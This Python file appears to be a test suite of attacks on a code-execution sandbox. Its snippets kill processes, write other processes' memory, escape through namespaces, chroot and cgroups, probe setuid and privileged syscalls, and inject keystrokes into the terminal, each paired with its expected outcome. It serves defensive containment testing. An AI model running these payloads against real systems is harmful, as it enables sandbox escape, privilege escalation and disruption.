"""Attacks on the sandbox itself: killing, writing memory, namespaces, rights, ways to end."""

from __future__ import annotations

from hostile import GRADED, HELD, code, ended

#: Either nobody could be killed, or the attack has killed itself.
KILL = {
    "status": (GRADED, HELD),
    "reasons": ("kernel-stopped", "cell-stuck"),
    "keeps": ("totals",),
}
ENDED = ("kernel-stopped",)
CTYPES = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
others = [int(p[6:]) for p in glob.glob("/proc/[0-9]*") if int(p[6:]) != os.getpid()]
"""

ATTACKS = [
    # -- killing --
    code(
        "killing",
        "kill-parent",
        "kills its parent and process 1",
        """
import signal
for pid in {os.getppid(), 1, 2} - {os.getpid()}:
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGSEGV, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
time.sleep(0.3)
""",
        **KILL,
    ),
    code(
        "killing",
        "kill-all",
        "kill -9 -1",
        "import signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\ntime.sleep(0.3)",
        **KILL,
    ),
    code(
        "killing",
        "kill-stop-all",
        "stops all that it can reach, so that nobody ends it",
        "import signal\ntry:\n    os.kill(-1, signal.SIGSTOP)\nexcept OSError:\n    pass\ntime.sleep(0.3)",
        **KILL,
    ),
    code(
        "killing",
        "kill-each",
        "every process of /proc, every number, the groups, by pidfd",
        """
import signal
seen = {int(p[6:]) for p in glob.glob("/proc/[0-9]*")} | set(range(1, 3000))
for pid in seen - {os.getpid()}:
    for send in (lambda: os.kill(pid, 9), lambda: signal.pidfd_send_signal(os.pidfd_open(pid), 9)):
        try:
            send()
        except OSError:
            pass
for group in (1, os.getppid()):
    try:
        os.killpg(group, 9)
    except OSError:
        pass
time.sleep(0.3)
""",
        **KILL,
    ),
    ended(
        "killing",
        "kill-group",
        "its own process group",
        "import signal\nos.killpg(0, signal.SIGKILL)",
        *ENDED,
    ),
    code(
        "killing",
        "kill-slow",
        "takes the time from others: priorities, affinity, limits",
        """
import resource
for pid in (1, os.getppid()):
    if pid != os.getpid():
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        except OSError:
            pass
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        except (OSError, ValueError):
            pass
try:
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    tell("priority -20")
except OSError:
    pass
for name in ("RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_AS"):
    kind = getattr(resource, name)
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        tell(name)
    except (OSError, ValueError):
        pass
""",
    ),
    # -- the zygote's memory --
    code(
        "foreign memory",
        "memory-file",
        "writes to /proc/PID/mem of all others",
        CTYPES
        + """
for pid in others:
    for mode in ("r+b", "rb"):
        try:
            with open(f"/proc/{pid}/mem", mode, buffering=0) as file:
                tell(f"opened the memory of {pid} ({mode})")
        except OSError:
            pass
""",
    ),
    code(
        "foreign memory",
        "memory-call",
        "process_vm_readv and _writev to all others, at addresses that a fork shares",
        CTYPES
        + """
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(8)
mine, theirs = Vec(ctypes.addressof(buffer), 8), Vec(id(None), 8)
for pid in {*others, 1, os.getppid()} - {os.getpid()}:
    for call in (libc.process_vm_readv, libc.process_vm_writev):
        if call(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == 8:
            tell(f"memory of {pid}")
""",
    ),
    code(
        "foreign memory",
        "memory-trace",
        "ptrace: attach and seize all others",
        CTYPES
        + """
for pid in {*others, 1, os.getppid()} - {os.getpid()}:
    for request in (16, 0x4206):
        if libc.ptrace(request, pid, None, None) == 0:
            tell(f"traces {pid}")
""",
    ),
    code(
        "foreign memory",
        "memory-handles",
        "takes open files out of other processes (pidfd_getfd)",
        CTYPES
        + """
for pid in {*others, 1, os.getppid()} - {os.getpid()}:
    try:
        handle = os.pidfd_open(pid)
    except OSError:
        continue
    for number in range(20):
        if libc.syscall(438, handle, number, 0) >= 0:
            tell(f"file {number} of {pid}")
            break
""",
    ),
    # -- namespaces and rights --
    code(
        "namespaces",
        "space-user",
        "becomes root in a namespace of its own and mounts a boundless folder",
        CTYPES
        + """
uid, gid = os.getuid(), os.getgid()
def inside():
    if libc.unshare(0x10000000 | 0x20000):
        return
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            open(f"/proc/self/{name}", "w").write(text)
        except OSError:
            pass
    os.makedirs("/tmp/m", exist_ok=True)
    if libc.mount(b"x", b"/tmp/m", b"tmpfs", 0, b"size=2g"):
        return
    for number in range(18):
        with open(f"/tmp/m/{number}", "wb") as file:
            file.write(bytes(50_000_000))
    time.sleep(1)
    print("FOUND: 900 MB in a mount of its own", flush=True)
child = os.fork()
if child == 0:
    try:
        inside()
    finally:
        sys.stdout.flush()
        time.sleep(0.3)
        os._exit(7 if os.path.exists("/tmp/m/17") else 0)
if os.waitpid(child, 0)[1] >> 8 == 7:
    tell("900 MB in a mount of its own")
""",
        status=(GRADED, HELD),
        reasons=("limit-memory", "kernel-stopped", "cell-stuck"),
    ),
    code(
        "namespaces",
        "space-unmount",
        "takes away, in a namespace of its own, what hides files from it",
        CTYPES
        + """
hides = [line.split()[4] for line in open("/proc/self/mountinfo")]
child = os.fork()
if child == 0:
    done = 0
    if libc.unshare(0x10000000 | 0x20000) == 0:
        for place in reversed(hides):
            if place not in ("/", "/proc") and libc.umount2(place.encode(), 2) == 0:
                done = 7
    os._exit(done)
if os.waitpid(child, 0)[1] >> 8 == 7:
    tell("unmounted what hides files")
""",
    ),
    code(
        "namespaces",
        "space-enter",
        "enters the namespaces of process 1 and of its parent",
        CTYPES
        + """
for pid in {1, os.getppid(), *others} - {os.getpid()}:
    for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
        try:
            handle = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if os.readlink(f"/proc/{pid}/ns/{name}") != os.readlink(f"/proc/self/ns/{name}") and libc.setns(handle, 0) == 0:
            tell(f"entered {name} of {pid}")
""",
    ),
    code(
        "namespaces",
        "space-chroot",
        "breaks out by chroot, pivot_root and ..",
        """
for place in ("/proc/1/root", "/tmp"):
    try:
        os.chroot(place)
        tell(f"chroot {place}")
    except OSError:
        pass
top = os.open("/", os.O_RDONLY)
try:
    there = set(os.listdir("../" * 40)) - {"usr", "bin", "sbin", "lib", "lib32", "lib64", "libx32", "etc", "tmp"}
    tell(there) if there & {"boot", "media", "mnt", "srv", "opt", "sys"} else None
except OSError:
    pass
""",
    ),
    code(
        "rights",
        "right-setuid",
        "programs that run as root",
        """
import stat
programs = []
for folder in ("/usr/bin", "/usr/sbin", "/usr/lib/openssh", "/usr/libexec"):
    for path in glob.glob(f"{folder}/*"):
        try:
            if os.stat(path).st_mode & stat.S_ISUID:
                programs.append(path)
        except OSError:
            pass
for line in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["pkexec", "id", "-u"]):
    try:
        done = subprocess.run(line, capture_output=True, text=True, timeout=1, stdin=subprocess.DEVNULL)
        if done.returncode == 0 and (line[0] == "mount" or done.stdout.strip() == "0"):
            tell(f"{line} {done.stdout}")
    except (OSError, subprocess.TimeoutExpired):
        pass
for identity in (0, 1):
    for call in (os.setuid, os.setgid):
        try:
            call(identity)
            if os.stat("/usr").st_uid == identity:
                tell(f"{call.__name__} {identity}")
        except OSError:
            pass
""",
    ),
    code(
        "rights",
        "right-calls",
        "system calls that need no file: bpf, perf, userfaultfd, modules, clocks, keys",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
zero = ctypes.create_string_buffer(256)
calls = {"bpf": (321, 0, zero, 128), "init_module": (175, zero, 0, b""), "kexec_load": (246, 0, 0, None, 0),
         "reboot": (169, 0, 0, 0, None), "settimeofday": (164, zero, None), "sethostname": (170, b"x", 1),
         "swapon": (167, b"/tmp/x", 0), "acct": (163, b"/tmp/x"), "syslog": (103, 3, zero, 100),
         "iopl": (172, 3), "quotactl": (179, 0, None, 0, None), "mount_setattr": (442, -100, b"/", 0, zero, 32)}
for name, call in calls.items():
    if libc.syscall(*call) >= 0 and name not in ("mount_setattr",):
        tell(name)
""",
    ),
    code(
        "rights",
        "right-cgroup",
        "control groups: leaves its own, changes limits",
        """
for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True) + glob.glob("/sys/fs/cgroup/*/tasks"):
    try:
        open(path, "w").write(str(os.getpid()))
        tell(path)
    except OSError:
        pass
import ctypes
libc = ctypes.CDLL(None)
os.makedirs("/tmp/cg", exist_ok=True)
for kind in (b"cgroup2", b"cgroup"):
    if libc.mount(b"x", b"/tmp/cg", kind, 0, None) == 0:
        tell(kind)
""",
    ),
    code(
        "rights",
        "right-devices",
        "device files: the disk, memory, terminals",
        """
import stat
for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/loop0", "/dev/kmsg", "/dev/port"):
    try:
        os.close(os.open(path, os.O_RDWR))
        tell(path)
    except OSError:
        pass
for name, kind, device in (("disk", stat.S_IFBLK, os.makedev(254, 0)), ("memory", stat.S_IFCHR, os.makedev(1, 1))):
    try:
        os.mknod(f"/tmp/{name}", kind | 0o600, device)
        open(f"/tmp/{name}", "rb").read(1)
        tell(name)
    except OSError:
        pass
try:
    import fcntl
    tty = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(tty, 0x5412, b"x")
    tell("typed into the terminal")
except OSError:
    pass
""",
    ),
    # -- ways to end --
    ended("exits", "exit-now", "os._exit(0)", "os._exit(0)", *ENDED),
    ended("exits", "exit-abort", "os.abort()", "os.abort()", *ENDED),
    ended(
        "exits",
        "exit-crash",
        "writes to address 0",
        "import ctypes\nctypes.string_at(0)",
        *ENDED,
    ),
    ended(
        "exits",
        "exit-other",
        "becomes another program",
        "os.execv('/bin/true', ['true'])",
        *ENDED,
    ),
    ended(
        "exits",
        "exit-kernel",
        "becomes a program that still talks like a kernel",
        """
from ipykernel.connect import get_connection_file
for handle in range(3, 512):
    try:
        os.set_inheritable(handle, False)
    except OSError:
        pass
os.execv(sys.executable, [sys.executable, "-m", "ipykernel_launcher", "-f", get_connection_file()])
""",
        "kernel-stopped",
        "cell-stuck",
        "limit-time",
    ),
    code(
        "exits",
        "exit-system",
        "sys.exit() in its own cell",
        "sys.exit(0)",
        status=(GRADED, HELD),
        reasons=ENDED,
        keeps=("totals", "best"),
        harmless=True,
    ),
    *(
        code(
            "exits",
            f"exit-test-{name}",
            f"ends the test in which it is called: {line}",
            "import builtins",
            after=f"def share(part, whole):\n    import os, sys\n    {line}\n",
            status=(GRADED, HELD),
            reasons=None,
            keeps=("totals", "best"),
            harmless=True,
        )
        for name, line in (
            ("system", "sys.exit(0)"),
            ("now", "os._exit(0)"),
            ("quit", "get_ipython().ask_exit(); raise SystemExit"),
            ("generator", "raise GeneratorExit"),
            ("interrupt", "raise KeyboardInterrupt"),
            (
                "silent",
                "raise type('Quiet', (BaseException,), {'_render_traceback_': lambda s: []})()",
            ),
            (
                "nameless",
                "raise type('', (Exception,), {'__str__': lambda s: 1/0, '_render_traceback_': lambda s: 1/0})()",
            ),
        )
    ),
    code(
        "atexit handlers",
        "atexit-exit",
        "SystemExit, prints and a fork when the kernel ends",
        """
import atexit
def last():
    print("FOUND: printed at exit")
    if os.fork() == 0:
        time.sleep(600)
    raise SystemExit(3)
atexit.register(last)
""",
    ),
    code(
        "atexit handlers",
        "atexit-loop",
        "an endless loop when the kernel ends, by atexit, __del__ and a thread",
        """
import atexit
def for_ever():
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass
atexit.register(for_ever)
class Last:
    def __del__(self):
        for_ever()
keep = Last()
keep.me = keep
threading.Thread(target=for_ever).start()
""",
    ),
]
